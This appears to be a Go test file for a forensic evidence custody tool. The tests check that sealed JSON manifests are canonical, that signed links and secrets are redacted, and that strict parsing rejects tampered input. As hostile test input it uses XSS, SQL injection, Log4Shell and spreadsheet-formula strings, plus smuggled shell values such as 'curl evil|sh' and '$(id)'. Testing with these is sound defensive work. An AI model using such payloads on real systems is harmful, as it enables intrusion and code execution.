package manifest_test

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"packhorse/internal/investigation"
	"packhorse/internal/manifest"
	"packhorse/internal/strictschema"
)

var update = flag.Bool("update", false, "write the golden files anew; look at the difference!")

// golden compares got with a file of testdata, byte by byte.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s: got\n%s\nwant\n%s", path, got, want)
	}
}

// hostile is text that a requestor can put into a comment.
const hostile = "</script><script>alert(1)</script> \"quoted\" \\back\\ \x1b[2J \x00 \u2028 \u202e ' OR 1=1 -- " +
	"${jndi:ldap://x} {{7*7}} =cmd|' /C calc'!A0 \r\n,\"version\": \"3\" Ünï © 漢字 \U0001f40e"

var createdAt = time.Date(2026, 3, 4, 5, 6, 7, 891_234_500, time.UTC)

// fetching returns a record held by a fetcher in its third attempt.
func fetching() investigation.Record {
	return investigation.Record{
		Action: investigation.Action{
			ID: investigation.ID{
				TenantID: "7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11",
				ActionID: "5382f7ea-7557-4ab7-9782-d50480024a4e",
			},
			MachineID:        "0123456789abcdef0123456789abcdef01234567",
			ComputerDNSName:  "fin-ws-17.contoso.com",
			Requestor:        "a.lindqvist@contoso.com",
			RequestorComment: "INC-4711 suspicious PowerShell",
			CaseID:           "INC-4711",
			RequestSource:    "Portal",
			Status:           investigation.StatusSucceeded,
			CreatedAt:        createdAt,
			LastUpdatedAt:    createdAt.Add(9 * time.Minute),
		},
		State: investigation.StateFetching, Attempts: 3, ExpiredLinks: 1, Owner: "worker-1",
		LeaseUntil: createdAt.Add(time.Hour), DueAt: createdAt.Add(time.Hour),
		Lane:       investigation.LaneLive,
		ObservedAt: createdAt.Add(10 * time.Minute),
		Journal: investigation.Journal("").
			Add(createdAt.Add(11*time.Minute), "the answer was 500").
			Add(createdAt.Add(13*time.Minute), "open https://x.blob.core.windows.net/p?sig=canary: 503"),
	}
}

// stored returns what the archive reports about the package of fetching.
func stored() investigation.Stored {
	return investigation.Stored{
		Receipt: investigation.Receipt{
			Bucket: "contoso-evidence",
			Key: "packages/7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11/" +
				"0123456789abcdef0123456789abcdef01234567/" +
				"20260304T050607Z_5382f7ea-7557-4ab7-9782-d50480024a4e.zip",
			VersionID: "3sL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQBpUMLUo",
			Size:      5_368_709_121,
			SHA256:    "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
			CRC32C:    "yZRlqg==",
			PartSize:  8 << 20,
			Retention: investigation.Retention{
				Mode: "GOVERNANCE", Until: createdAt.Truncate(time.Second).Add(365 * 24 * time.Hour),
			},
		},
		Collection: investigation.Collection{
			Attempt: 3,
			Link: investigation.Exchange{
				AskedAt: createdAt.Add(14 * time.Minute), AnsweredAt: createdAt.Add(14*time.Minute + time.Second),
				Host: "api.security.microsoft.com", TLSVersion: "TLS 1.3",
				CertificateSHA256: strings.Repeat("ab", 32), RequestID: "r-1", CorrelationID: "c-1",
			},
			Download: investigation.Exchange{
				AskedAt: createdAt.Add(15 * time.Minute), AnsweredAt: createdAt.Add(15*time.Minute + time.Second),
				Host: "x.blob.core.windows.net", TLSVersion: "TLS 1.2",
				CertificateSHA256: strings.Repeat("cd", 32), RequestID: "r-2",
			},
		},
		Content: investigation.Content{
			Entries: 19, UncompressedSize: 9_000_000_000,
			TopLevel: []string{"Autoruns/", "Processes/"}, Remarks: []string{`"../x" leads out`},
		},
	}
}

var provenance = manifest.Provenance{
	Version: "1.2.3", Commit: "98d0f6d",
	FunctionARN:     "arn:aws:lambda:eu-west-1:123456789012:function:packhorse-fetch-package",
	FunctionVersion: "$LATEST",
	Principal:       "arn:aws:sts::123456789012:assumed-role/fetch/packhorse-fetch-package",
	Account:         "123456789012", Region: "eu-west-1",
}

// facts returns fixed facts for the package or the quarantined object.
func facts(t *testing.T, s investigation.Stored) manifest.Facts {
	t.Helper()
	return manifest.Facts{
		Collection: s.Collection, Content: s.Content, Bucket: "contoso-evidence", Key: testKey(t).KeyRef, Provenance: provenance,
		Lock:     investigation.Lock{Mode: "GOVERNANCE", For: 365 * 24 * time.Hour},
		SealedAt: createdAt.Add(16 * time.Minute),
	}
}

// testKey is the key that all manifests here name. The tests of package custody sign with it.
func testKey(t *testing.T) manifest.Key {
	t.Helper()
	private, err := ecdsa.ParseRawPrivateKey(elliptic.P256(), bytes.Repeat([]byte{7}, 32))
	if err != nil {
		t.Fatal(err)
	}
	key, err := manifest.NewKey("signing-key.pem", &private.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	return key
}

// seal returns the record with its manifests.
func seal(t *testing.T, rec investigation.Record, s investigation.Stored, head investigation.Head,
) (investigation.Record, investigation.Head) {
	t.Helper()
	rec, head, err := rec.Sealed(head, facts(t, s).Sealer())
	if err != nil {
		t.Fatal(err)
	}
	return rec, head
}

func archived(t *testing.T, rec investigation.Record) []byte {
	t.Helper()
	rec, err := investigation.Archive("worker-1", investigation.Arrival{At: createdAt.Add(16 * time.Minute), Receipt: stored().Receipt}).Apply(rec)
	if err != nil {
		t.Fatal(err)
	}
	rec, _ = seal(t, rec, stored(), investigation.Head{Sequence: 6, Digest: strings.Repeat("0f", 32)})
	return []byte(rec.Seal.Manifest)
}

// A stored object without a known collection gets no manifest: it would be silent about where the object
// came from.
func TestObjectWithoutCollectionIsRefused(t *testing.T) {
	unexplained := facts(t, investigation.Stored{Receipt: stored().Receipt, Content: stored().Content})
	rec, err := investigation.Archive("worker-1", investigation.Arrival{
		At: createdAt.Add(16 * time.Minute), Receipt: stored().Receipt,
	}).Apply(fetching())
	if err != nil {
		t.Fatal(err)
	}
	if text, err := unexplained.Outcome(rec, investigation.Head{}); err == nil {
		t.Errorf("an archived package: got %s", text)
	}
	if text, err := unexplained.Quarantined(rec, investigation.Head{}); err == nil {
		t.Errorf("a quarantined object: got %s", text)
	}
}

func TestGolden(t *testing.T) {
	schema, err := strictschema.Load("../../docs/custody/manifest.schema.json")
	if err != nil {
		t.Fatal(err)
	}
	check := func(name, key string, text []byte) {
		t.Helper()
		golden(t, name, text)
		if err := strictschema.Check(schema, text); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		m, err := manifest.Parse(text)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if got, err := m.Key(); err != nil || got != key {
			t.Errorf("%s: its key is %q, %v; want %q", name, got, err, key)
		}
	}
	const stem = "7f1c2a44-0d5e-4b53-9a0e-3d1f6f0a9c11/0123456789abcdef0123456789abcdef01234567/" +
		"20260304T050607Z_5382f7ea-7557-4ab7-9782-d50480024a4e"
	check("archived.json", "packages/"+stem+".json", archived(t, fetching()))

	words := fetching()
	words.RequestorComment = hostile
	check("hostile.json", "packages/"+stem+".json", archived(t, words))

	// Ended by Defender before any attempt.
	failed, _ := investigation.Observe(investigation.Action{
		ID: fetching().ID, MachineID: fetching().MachineID, CreatedAt: createdAt,
		Status: investigation.StatusFailed,
	}, createdAt).Apply(investigation.Record{})
	failed, _ = seal(t, failed, investigation.Stored{}, investigation.Head{})
	check("failed.json", "not-collected/"+stem+".json", []byte(failed.Seal.Manifest))

	// Given up, with a quarantined object.
	s := stored()
	s.Receipt.Key, s.Content = "quarantine/"+stem+".bin", investigation.Content{}
	s.Receipt.Retention = investigation.Retention{LegalHold: true}
	invalid, err := investigation.Close("worker-1", investigation.Closing{
		At: createdAt.Add(16 * time.Minute), Reason: investigation.ReasonInvalid,
		Message: "what came is not a package", Quarantine: s.Receipt,
	}).Apply(fetching())
	if err != nil {
		t.Fatal(err)
	}
	invalid, head := seal(t, invalid, s, investigation.Head{Sequence: 1, Digest: strings.Repeat("0f", 32)})
	check("quarantined.json", "quarantine/"+stem+".json", []byte(invalid.QuarantineSeal.Manifest))
	check("invalid.json", "not-collected/"+stem+".json", []byte(invalid.Seal.Manifest))
	if head.Sequence != 3 || head.Digest != digest(invalid.Seal.Manifest) {
		t.Errorf("the head is %+v", head)
	}
	if !strings.Contains(invalid.Seal.Manifest, `"previous":"`+digest(invalid.QuarantineSeal.Manifest)) {
		t.Error("the second manifest does not follow the first")
	}
}

func digest(text string) string {
	sum := sha256.Sum256([]byte(text))
	return hex.EncodeToString(sum[:])
}

// TestSameAfterCrash: a fetcher that finds the object already stored makes the same manifest as the fetcher
// that stored it would have made.
func TestSameAfterCrash(t *testing.T) {
	t.Parallel()
	want := archived(t, fetching())
	zone := time.FixedZone("elsewhere", -5*3600)
	for name, change := range map[string]func(*investigation.Record){
		"again":      func(*investigation.Record) {},
		"attempts":   func(r *investigation.Record) { r.Attempts, r.ExpiredLinks = 9, 4 },
		"lease":      func(r *investigation.Record) { r.LeaseUntil = time.Time{} },
		"message":    func(r *investigation.Record) { r.Message = "x" },
		"first seen": func(r *investigation.Record) { r.ObservedAt = time.Time{} },
		"due":        func(r *investigation.Record) { r.DueAt, r.Lane = time.Time{}, "" },
		"zone": func(r *investigation.Record) {
			r.CreatedAt, r.LastUpdatedAt = r.CreatedAt.In(zone), r.LastUpdatedAt.In(zone)
		},
		"attempts after it": func(r *investigation.Record) {
			r.Journal = r.Journal.Add(createdAt.Add(20*time.Minute), "its lease ran out")
		},
	} {
		changed := fetching()
		change(&changed)
		if got := archived(t, changed); !bytes.Equal(got, want) {
			t.Errorf("%s: the manifest differs: %s", name, got)
		}
	}
}

// TestNoLink: the texts of errors reach manifests through the journal and the message, without their links.
func TestNoLink(t *testing.T) {
	t.Parallel()
	rec := fetching()
	given, err := investigation.Close("worker-1", investigation.Closing{
		At: createdAt, Reason: investigation.ReasonExpired,
		Message: "get HTTPS://x.blob.core.windows.net/p?sig=canary: refused",
	}).Apply(rec)
	if err != nil {
		t.Fatal(err)
	}
	given, _ = seal(t, given, investigation.Stored{}, investigation.Head{})
	for _, text := range []string{string(archived(t, rec)), given.Seal.Manifest} {
		for _, part := range []string{"://", "sig=", "canary", "worker-1"} {
			if strings.Contains(text, part) {
				t.Errorf("the manifest has %q: %s", part, text)
			}
		}
		if !strings.Contains(text, "[link redacted]") {
			t.Errorf("the manifest does not say that there was a link: %s", text)
		}
	}
}

// TestNoSecretInAnyForm is like TestNoLink for escaped text and for links without a scheme.
func TestNoSecretInAnyForm(t *testing.T) {
	t.Parallel()
	for _, message := range []string{
		"refused: sig%3Dcanary%2B", `refused: \u0026sig\u003dcanary`, "refused: %73ig=canary", "Bearer%20canary-canary",
		"get x.blob.core.windows.net/canary?x", "get //x/canary", `{\"token\":\"canary\"}`,
	} {
		given, err := investigation.Close("worker-1", investigation.Closing{
			At: createdAt, Reason: investigation.ReasonExpired, Message: message,
		}).Apply(fetching())
		if err != nil {
			t.Fatal(err)
		}
		given, _ = seal(t, given, investigation.Stored{}, investigation.Head{})
		if text := given.Seal.Manifest; strings.Contains(text, "canary") || !strings.Contains(text, "redacted]") {
			t.Errorf("%s: the manifest shows it: %s", message, text)
		}
	}
}

// TestParse: text that Facts cannot have made is rejected, however similar it looks.
func TestParse(t *testing.T) {
	t.Parallel()
	text := string(archived(t, fetching()))
	edit := func(old, with string) string {
		if !strings.Contains(text, old) {
			t.Fatalf("there is no %q in %s", old, text)
		}
		return strings.Replace(text, old, with, 1)
	}
	for name, bad := range map[string]string{
		"empty":               "",
		"no object":           `"packhorse"`,
		"cut off":             text[:len(text)-1],
		"a line break after":  text + "\n",
		"another document":    text + "{}",
		"space":               edit(`{"action":`, `{ "action":`),
		"another order":       edit(`"version":"2"`, `"aversion":"2"`),
		"a name twice":        edit(`"outcome":"archived"`, `"outcome":"notCollected","outcome":"archived"`),
		"an escape too many":  edit(`"packhorse"`, `"packh\u006frse"`),
		"a float":             edit(`"entries":19`, `"entries":19.0`),
		"an exponent":         edit(`"entries":19`, `"entries":19e0`),
		"a number too large":  edit(`"entries":19`, `"entries":9007199254740992`),
		"another version":     edit(`"version":"2"`, `"version":"1"`),
		"another outcome":     edit(`"outcome":"archived"`, `"outcome":"lost"`),
		"sections of another": edit(`"outcome":"archived"`, `"outcome":"notCollected"`),
		"another bucket":      edit(`"custody":{"account":"123456789012","bucket":"contoso-evidence"`, `"custody":{"account":"123456789012","bucket":"other"`),
		"no sequence":         edit(`"sequence":7`, `"sequence":0`),
		"first with another":  edit(`"sequence":7`, `"sequence":1`),
		"a key id of another form": regexp.MustCompile(`"keyId":"[0-9a-f]{64}"`).ReplaceAllLiteralString(text,
			`"keyId":"x.pem; curl evil|sh #"`),
		"a key id in capitals": regexp.MustCompile(`"keyId":"[0-9a-f]{64}"`).ReplaceAllLiteralString(text,
			`"keyId":"`+strings.Repeat("A", 64)+`"`),
		"a digest of another form": regexp.MustCompile(`"previous":"[0-9a-f]{64}"`).ReplaceAllLiteralString(text,
			`"previous":"$(id)"`),
		"an object's digest of another form": regexp.MustCompile(`"sha256":"[0-9a-f]{64}"`).
			ReplaceAllLiteralString(text, `"sha256":"`+strings.Repeat("g", 64)+`"`),
		"bytes that are none": edit(`"Portal"`, "\"Por\xfftal\""),
		"half a surrogate":    edit(`"Portal"`, `"\ud800"`),
	} {
		if _, err := manifest.Parse([]byte(bad)); !errors.Is(err, manifest.ErrBadManifest) {
			t.Errorf("%s: got %v", name, err)
		}
	}
	later := edit(`"version":"2"`, `"version":"2","zebra":"a field of a later release"`)
	if _, err := manifest.Parse([]byte(later)); err != nil {
		t.Errorf("an additional field: %v", err)
	}
}

// FuzzManifest: any text that requestors write makes one canonical document that preserves the text.
func FuzzManifest(f *testing.F) {
	for _, seed := range []string{"", hostile, "\xff\xfe", `"`, `\`, "\n", "x/?sig=y", "\x7f\u0080\ufeff"} {
		f.Add(seed, seed)
	}
	f.Fuzz(func(t *testing.T, comment, name string) {
		rec := fetching()
		rec.RequestorComment, rec.ComputerDNSName = comment, name
		text := archived(t, rec)
		if !utf8.Valid(text) || bytes.ContainsAny(text, "\x00\x1b\r\n") {
			t.Fatalf("not UTF-8, or it can steer a terminal: %q", text)
		}
		m, err := manifest.Parse(text)
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		if want := strings.ToValidUTF8(comment, "\ufffd"); utf8.ValidString(comment) &&
			m.Action.RequestorComment != want {
			t.Fatalf("the comment %q became %q", comment, m.Action.RequestorComment)
		}
		if utf8.ValidString(name) && m.Action.ComputerDNSName != name {
			t.Fatalf("the name %q became %q", name, m.Action.ComputerDNSName)
		}
		if m.Action.ID != rec.ActionID || m.Object.SHA256 != stored().Receipt.SHA256 ||
			m.Chain.Sequence != 7 || !m.Action.CreatedAt.Equal(rec.CreatedAt) {
			t.Fatalf("%q: other fields changed: %+v", comment, m)
		}
	})
}

// FuzzParse: any bytes parse as a manifest or fail with ErrBadManifest.
func FuzzParse(f *testing.F) {
	for _, file := range []string{"archived", "failed", "invalid", "quarantined", "hostile"} {
		text, err := os.ReadFile(filepath.Join("testdata", file+".json"))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		m, err := manifest.Parse(text)
		if err != nil {
			if !errors.Is(err, manifest.ErrBadManifest) {
				t.Fatalf("got %v", err)
			}
			return
		}
		if !json.Valid(text) || m.Chain.Sequence < 1 {
			t.Fatalf("%q was parsed as %+v", text, m)
		}
	})
}
